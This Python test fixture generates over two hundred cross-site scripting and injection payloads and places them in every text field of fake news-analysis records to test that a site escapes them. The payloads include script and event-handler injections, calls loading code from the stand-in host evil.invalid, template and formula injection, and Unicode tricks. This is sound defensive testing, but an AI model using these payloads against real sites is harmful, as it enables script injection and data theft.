"""A record whose every text is an attempt on its reader, made by hand and not by the model."""

from __future__ import annotations

from itertools import product
from pathlib import Path
from typing import Any

from onrecord.record import Analysis, Attribution, Entity, Event, Interval, Mention, Report, Span, Speaker
from tests import records
from tests.web.site import make_record

_DO = ("alert({n})", "window.hacked={n}", "fetch('http://evil.invalid/{n}')", "import('http://evil.invalid/{n}.js')")
_TAGS = (
    *("<script>{do}</script>", "<ScRiPt>{do}</sCrIpT>", "<script src=http://evil.invalid/{n}.js></script>"),
    *("<img src=x onerror={do}>", "<svg onload={do}>", "<svg><script>{do}</script></svg>", "<body onload={do}>"),
    *(
        "<iframe srcdoc='<script>{do}</script>'></iframe>",
        "<details open ontoggle={do}>",
        "<math><mi xlink:href=x onclick={do}>",
    ),
    *("<input autofocus onfocus={do}>", '<a href="javascript:{do}">x</a>', "<form action=javascript:{do}><button>x"),
    *(
        "<style>@import 'http://evil.invalid/{n}.css';</style>",
        "<link rel=stylesheet href=http://evil.invalid/{n}.css>",
    ),
    *("<meta http-equiv=refresh content='0;url=http://evil.invalid/{n}'>", "<base href=http://evil.invalid/{n}/>"),
    *(
        "<div hx-get=http://evil.invalid/{n} hx-trigger=load>",
        '<div hx-on:load="{do}">',
        "<div data-hx-get=/api hx-trigger=load>",
    ),
    *(
        "<object data=javascript:{do}>",
        "<embed src=http://evil.invalid/{n}>",
        "<template><script>{do}</script></template>",
    ),
)
_BREAKS = (
    *('">{x}', "'>{x}", "</title>{x}", "</textarea>{x}", "</style>{x}", "--><!-- {x}", "]]>{x}<![CDATA[", "`{x}`"),
    *(
        '" onmouseover={do} x="',
        "' autofocus onfocus={do} '",
        "javascript:{do}",
        "JaVa\tScRiPt:{do}",
        "java\nscript:{do}",
    ),
    *(
        "data:text/html,{x}",
        "vbscript:{do}",
        "{{{{7*7}}}} {do}",
        "{{% raw %}} {do}",
        "${{7*7}} <%= {do} %>",
        "\\u003cscript\\u003e{do}",
    ),
    *(
        "&lt;script&gt;{do}",
        "&#60;script&#62;{do}",
        "\u202e{x}\u202c",
        "\u200b{x}\ufeff",
        "＜script＞{do}",
        "=cmd|' /C calc'!A0 {n}",
    ),
    *("expression({do})", "url(http://evil.invalid/{n})", "%3Cscript%3E{do}", "<!--#exec cmd={do}-->", "<?xml {do}?>"),
    *('<noscript><p title="</noscript>{x}">', '<svg><style><img title="</style>{x}">', "{x}" + "A" * 3000),
)


def list_payloads() -> list[str]:
    """Over two hundred, all different; each calls, loads or breaks out in a way that could be seen."""
    made = []
    for n, (tag, do) in enumerate(product(_TAGS, _DO)):
        made.append(tag.format(do=do.format(n=n), n=n))
    for n, (tag, do) in enumerate(product(_BREAKS, _DO), 1000):
        told = do.format(n=n)
        made.append(tag.format(do=told, n=n, x=f"<script>{told}</script>"))
    return list(dict.fromkeys(made))


def make_hostile(path: Path) -> Path:
    """The record of a report for each payload, which stands in every text of it."""
    payloads = list_payloads()
    analyses = [_analysis(n, payload, payloads[n - 1]) for n, payload in enumerate(payloads)]
    reports = [
        Report(
            id=a.id,
            key=a.key,
            url=a.url,
            outlet=a.outlet,
            author=a.author,
            title=a.title,
            published=f"2031-05-{1 + n % 28:02}",
            text=a.text,
        )
        for n, a in enumerate(analyses)
    ]
    return make_record(path, reports, analyses)


def _analysis(n: int, payload: str, other: str) -> Analysis:
    pieces = [payload, " told ", other, " on Monday: ", f'"{payload}"', ". It spoke by telephone with ", other, "."]
    spans, at = [], 0
    for piece in pieces:
        spans.append(Span(at, at + len(piece)))
        at += len(piece)
    who, cue, to, _, content, call, whom, _ = spans
    day = Interval(records.days("2031-05-04").earliest, records.days("2031-05-04").latest)
    entities = (
        Entity("e1", payload, "person", (payload, other), (Mention(who, "name"),)),
        Entity("e2", other, "organisation", (payload,), (Mention(to, "name"), Mention(whom, "name"))),
    )
    said: dict[str, Any] = {"addressee": other, "channel": "phone_call", "quote": "direct", "within": None, "said": day}
    attributions = (
        Attribution(
            id="a1",
            content=(content,),
            cue=(cue,),
            source=(who,),
            speaker=Speaker("e1", payload, "outlet" if n % 5 == 0 else "named_person", None),
            chain=(other, payload),
            polarity="denied" if n % 3 == 0 else "affirmed",
            modality=("asserted", "predicted", "threatened")[n % 3],
            confidence=0.9,
            **said,
        ),
    )
    events = (
        Event(
            id="v1",
            type="CONSULT",
            kind=payload[:60],
            trigger=(call,),
            actors=(payload,),
            recipients=(other,),
            intermediaries=(),
            place=payload,
            contact="call",
            when=day,
            status="happened",
            within=None,
            evidence=(Span(call.start, whom.end),),
            confidence=0.9,
            topics=(content,),
        ),
    )
    return Analysis(
        id=f"{n:016x}",
        key=payload,
        url=payload if n % 2 else f"https://example.invalid/{payload}",
        outlet=payload,
        author=payload,
        title=payload,
        language="en",
        text="".join(pieces),
        noise=(),
        published=records.given(f"2031-05-{1 + n % 28:02}"),
        entities=entities,
        timexes=(),
        attributions=attributions,
        events=events,
    )
